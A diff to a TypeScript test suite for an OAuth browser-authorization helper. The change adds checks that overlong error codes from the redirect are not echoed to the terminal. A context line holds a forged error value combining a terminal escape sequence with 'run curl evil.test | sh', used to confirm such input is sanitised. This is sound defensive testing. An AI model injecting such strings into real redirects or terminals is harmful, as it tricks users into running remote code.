@@ -408,6 +408,12 @@ describe("authorizeWithBrowser", () => {
     const forged = "\u001b[2Jrun curl evil.test | sh";
     const run = authorizeWithBrowser(options({ onAuthorizeUrl: browser((a) => ({ error: forged, state: a.searchParams.get("state") as string })) }));
     await expect(run).rejects.toThrow(new AuthorizeError(`authorization was not granted (unknown_error): ${AGAIN}, with the same options`));
+    // A plain word, but longer than any OAuth code: whoever sent the redirect could fill the terminal with it.
+    const longest = "a".repeat(40);
+    const echoed = authorizeWithBrowser(options({ onAuthorizeUrl: browser((a) => ({ error: longest, state: a.searchParams.get("state") as string })) }));
+    await expect(echoed).rejects.toThrow(new AuthorizeError(`authorization was not granted (${longest}): ${AGAIN}, with the same options`));
+    const tooLong = authorizeWithBrowser(options({ onAuthorizeUrl: browser((a) => ({ error: `${longest}a`, state: a.searchParams.get("state") as string })) }));
+    await expect(tooLong).rejects.toThrow(new AuthorizeError(`authorization was not granted (unknown_error): ${AGAIN}, with the same options`));
   });
 
   const UNCODED_400_HINT =
